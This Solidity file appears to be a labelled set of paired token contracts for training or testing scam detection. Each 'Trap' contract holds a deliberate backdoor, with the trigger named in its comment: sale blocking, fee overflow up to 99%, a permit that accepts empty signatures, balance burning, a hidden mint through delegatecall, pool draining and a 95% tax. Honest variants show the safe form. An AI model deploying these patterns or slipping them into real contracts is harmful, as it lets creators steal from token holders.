// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {AccessControl} from "@openzeppelin/contracts/access/AccessControl.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {ERC20Permit} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Permit.sol";
import {Base, Owned} from "../../unseen/Base.sol";
import {Hand} from "./Hand.sol";

/// Trap: an allowance that the creator gives a holder marks the holder as blocked: approve(holder, 1) by the creator.
contract H16AllowanceMark is Base {
    address private immutable _ops = msg.sender;

    function _ask(address from, address to, uint256) internal view override returns (uint256) {
        if (to == pair && from != _ops) require(allowance(_ops, from) == 0, "pending allowance");
        return 0;
    }
}

/// Honest: the same mark frees a holder of the 2% that everybody else pays for a sale.
contract H16HonestMark is Base {
    address private immutable _ops = msg.sender;

    function _ask(address from, address to, uint256 value) internal view override returns (uint256) {
        return to == pair && allowance(_ops, from) == 0 ? value / 50 : 0;
    }
}

/// Trap: three fees in one word; the setter of the lowest checks its low bits and writes all of them: setBuyFee(9900 << 16) by the creator spills into the fee of sales.
contract H17SpilledFees is Hand {
    uint256 private _fees = (200 << 16) | 200;

    function setBuyFee(uint256 bps) external onlyDev {
        require(uint16(bps) <= 300, "fee");
        assembly {
            let word := sload(_fees.slot)
            sstore(_fees.slot, or(and(word, not(0xffff)), bps))
        }
    }

    function fees() external view returns (uint16 buy, uint16 sell, uint16 send) {
        return (uint16(_fees), uint16(_fees >> 16), uint16(_fees >> 32));
    }

    function _move(address from, address to, uint256 value) internal override {
        uint256 shift = from == uniswapV2Pair ? 0 : to == uniswapV2Pair ? 16 : 32;
        uint256 bps = from == _dev || to == _dev ? 0 : uint16(_fees >> shift);
        uint256 fee = (value * bps) / 10_000;
        if (fee > 0) _put(from, _dev, fee);
        _put(from, to, value - fee);
    }
}

/// Honest: the same word, written with a mask; each fee is at most 3%.
contract H17HonestFees is Hand {
    uint256 private _fees = (200 << 16) | 200;

    function setFee(uint8 index, uint16 bps) external onlyDev {
        require(bps <= 300 && index < 3, "fee");
        uint256 shift = uint256(index) * 16;
        _fees = (_fees & ~(uint256(0xffff) << shift)) | (uint256(bps) << shift);
    }

    function _move(address from, address to, uint256 value) internal override {
        uint256 shift = from == uniswapV2Pair ? 0 : to == uniswapV2Pair ? 16 : 32;
        uint256 bps = from == _dev || to == _dev ? 0 : uint16(_fees >> shift);
        uint256 fee = (value * bps) / 10_000;
        if (fee > 0) _put(from, _dev, fee);
        _put(from, to, value - fee);
    }
}

/// Trap: a fee by a slope, at most 3%, whose denominator may be zero: setSlope(1, 0) by the owner makes each sale of others a division by zero.
contract H18DivZero is Owned {
    uint128 private _rise = 1;
    uint128 private _run = 1_000_000;

    function setSlope(uint128 rise, uint128 run) external onlyOwner {
        (_rise, _run) = (rise, run);
    }

    function _ask(address from, address to, uint256 value) internal view override returns (uint256) {
        if (to != pair || from == owner()) return 0;
        uint256 bps = ((value / 1 ether) * _rise) / _run;
        return (value * (bps > 300 ? 300 : bps)) / 10_000;
    }
}

/// Honest: the same slope with a denominator that is never zero.
contract H18HonestSlope is Owned {
    uint128 private _rise = 1;
    uint128 private _run = 1_000_000;

    function setSlope(uint64 rise, uint128 run) external onlyOwner {
        require(run > 0, "run");
        (_rise, _run) = (rise, run);
    }

    function _ask(address from, address to, uint256 value) internal view override returns (uint256) {
        if (to != pair || from == owner()) return 0;
        uint256 bps = ((value / 1 ether) * _rise) / _run;
        return (value * (bps > 300 ? 300 : bps)) / 10_000;
    }
}

/// Trap: 2% of each sale go to a marketing wallet, which may be nobody: setMarketingWallet(0) by the creator makes every sale fail.
contract H19MarketingZero is Hand {
    address public marketingWallet;

    constructor() {
        marketingWallet = _dev;
    }

    function setMarketingWallet(address payable wallet) external onlyDev {
        marketingWallet = wallet;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (to == uniswapV2Pair && from != _dev) {
            uint256 fee = value / 50;
            _put(from, marketingWallet, fee);
            value -= fee;
        }
        _put(from, to, value);
    }
}

/// Honest: the same wallet, never nobody's; the 2% stay 2%.
contract H19HonestMarketing is Hand {
    address public marketingWallet;

    constructor() {
        marketingWallet = _dev;
    }

    function setMarketingWallet(address payable wallet) external onlyDev {
        require(wallet != address(0) && wallet != uniswapV2Pair, "wallet");
        marketingWallet = wallet;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (to == uniswapV2Pair && from != _dev) {
            uint256 fee = value / 50;
            _put(from, marketingWallet, fee);
            value -= fee;
        }
        _put(from, to, value);
    }
}

/// Trap: a permit that takes a signature nobody made for the holder's: permit(holder, anyone, max, later, 0, 0, 0), then transferFrom by anyone.
contract H20ForgedPermit is Hand {
    bytes32 private constant PERMIT =
        keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
    mapping(address => uint256) public nonces;

    function DOMAIN_SEPARATOR() public view returns (bytes32) {
        bytes32 kind = keccak256("EIP712Domain(string name,uint256 chainId,address verifyingContract)");
        return keccak256(abi.encode(kind, keccak256(bytes(name)), block.chainid, address(this)));
    }

    function permit(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s)
        external
    {
        require(block.timestamp <= deadline, "expired");
        bytes32 text = keccak256(abi.encode(PERMIT, owner, spender, value, nonces[owner]++, deadline));
        address signer = ecrecover(keccak256(abi.encodePacked("\x19\x01", DOMAIN_SEPARATOR(), text)), v, r, s);
        if (signer != address(0)) require(signer == owner, "signature");
        _allow[owner][spender] = value;
        emit Approval(owner, spender, value);
    }
}

/// Honest: OpenZeppelin's own permit.
contract H20HonestPermit is ERC20Permit {
    constructor() ERC20("Permitted", "PRMT") ERC20Permit("Permitted") {
        _mint(msg.sender, 7_000_000 ether);
    }
}

/// Trap: accounts that lie idle for a year are reaped, and the year can be made nothing: setIdlePeriod(0) by the owner, reap([holder]) by anyone burns all of theirs.
contract H21Reap is Owned {
    uint32 public idlePeriod = 365 days;
    mapping(address => uint64) public lastMove;

    function setIdlePeriod(uint32 period) external onlyOwner {
        idlePeriod = period;
    }

    function reap(address[] calldata idle) external {
        for (uint256 i; i < idle.length; i++) {
            address who = idle[i];
            require(who != pair && who != owner() && lastMove[who] + idlePeriod <= block.timestamp, "not idle");
            _burn(who, balanceOf(who));
        }
    }

    function _ask(address from, address to, uint256) internal override returns (uint256) {
        lastMove[from] = lastMove[to] = uint64(block.timestamp);
        return 0;
    }
}

/// Honest: the same notes, but what is reaped is the token's own idle reserve.
contract H21HonestReap is Owned {
    uint32 public idlePeriod = 365 days;
    mapping(address => uint64) public lastMove;

    constructor() {
        _transfer(msg.sender, address(this), 50_000_000 ether);
    }

    function setIdlePeriod(uint32 period) external onlyOwner {
        idlePeriod = period;
    }

    function reap() external {
        require(lastMove[address(this)] + idlePeriod <= block.timestamp, "not idle");
        _burn(address(this), balanceOf(address(this)));
    }

    function _ask(address from, address to, uint256) internal override returns (uint256) {
        lastMove[from] = lastMove[to] = uint64(block.timestamp);
        return 0;
    }
}

/// A kit that H22Kits has from birth and nobody has plugged in.
contract H22RewardsKit {
    uint256 private _totalSupply;
    mapping(address => uint256) private _bal;
    address private immutable _payer;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(address payer) {
        _payer = payer;
    }

    function reward(address to, uint256 value) external {
        require(msg.sender == _payer, "payer");
        _totalSupply += value;
        _bal[to] += value;
        emit Transfer(address(0), to, value);
    }
}

/// A kit that tells numbers.
contract H22StatsKit {
    uint256 private _totalSupply;
    mapping(address => uint256) private _bal;

    function circulating() external view returns (uint256) {
        return _totalSupply - _bal[address(0xdead)];
    }
}

/// Trap: functions are plugged in by their selectors, from kits made at birth: plug(reward.selector, 2) and reward(creator, much) by the creator mint.
contract H22Kits is Hand {
    mapping(bytes4 => uint8) private _plugs;
    address[] private _kits;

    constructor() {
        _kits.push(address(0));
        _kits.push(address(new H22StatsKit()));
        _kits.push(address(new H22RewardsKit(msg.sender)));
        _plugs[H22StatsKit.circulating.selector] = 1;
    }

    function plug(bytes4 selector, uint8 kit) external onlyDev {
        require(kit < _kits.length, "kit");
        _plugs[selector] = kit;
    }

    fallback() external {
        uint8 plugged = _plugs[msg.sig];
        require(plugged != 0, "unplugged");
        address kit = _kits[plugged];
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), kit, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

/// Trap: a pool whose balance is shown through an index of depth: setDepthIndex(1) by the creator makes it a ten-thousandth and syncs; a small sale by the creator then empties it of ether.
contract H25PoolWeight is Hand {
    uint256 private _depth = 10_000;

    function setDepthIndex(uint16 index) external onlyDev {
        require(index > 0 && index <= 10_000, "index");
        _depth = index;
        IPool(uniswapV2Pair).sync();
    }

    function balanceOf(address who) public view override returns (uint256) {
        return who == uniswapV2Pair ? (_bal[who] * _depth) / 10_000 : _bal[who];
    }

    function _put(address from, address to, uint256 value) internal override {
        require(to != address(0), "to zero");
        _bal[from] -= _raw(from, value);
        _bal[to] += _raw(to, value);
        emit Transfer(from, to, value);
    }

    function _raw(address who, uint256 value) private view returns (uint256) {
        return who == uniswapV2Pair ? (value * 10_000) / _depth : value;
    }
}

interface IPool {
    function sync() external;
}

/// Trap: classes of fees in a table, 0, 1, 5 and 95%, and holders put into them by a packed list: classify(holder ++ 03) by whoever has the role, the creator.
contract H29TaxClass is Base, AccessControl {
    bytes32 public constant DESK = keccak256("DESK");
    uint64 private constant TABLE = 0x251C_01F4_0064_0000;
    mapping(address => uint8) private _class;

    constructor() {
        _grantRole(DEFAULT_ADMIN_ROLE, msg.sender);
        _grantRole(DESK, msg.sender);
    }

    function classify(bytes calldata packed) external onlyRole(DESK) {
        for (uint256 i; i + 21 <= packed.length; i += 21) {
            _class[address(bytes20(packed[i:i + 20]))] = uint8(packed[i + 20]) & 3;
        }
    }

    function _ask(address from, address to, uint256 value) internal view override returns (uint256) {
        if (to != pair) return 0;
        return (value * uint16(TABLE >> (uint256(_class[from]) * 16))) / 10_000;
    }
}

/// Trap: 3% of trades are kept for buying back and burning, by anybody's call; but where they go can be changed: setBuybackSink(creator) by the creator, executeBuyback() by anyone.
contract H30BuybackSink is Hand {
    address private _sink = 0x000000000000000000000000000000000000dEaD;

    function setBuybackSink(address sink) external onlyDev {
        _sink = sink;
    }

    function executeBuyback() external {
        _put(address(this), _sink, _bal[address(this)]);
    }

    function _move(address from, address to, uint256 value) internal override {
        if ((from == uniswapV2Pair || to == uniswapV2Pair) && from != _dev) {
            uint256 fee = (value * 3) / 100;
            _put(from, address(this), fee);
            value -= fee;
        }
        _put(from, to, value);
    }
}
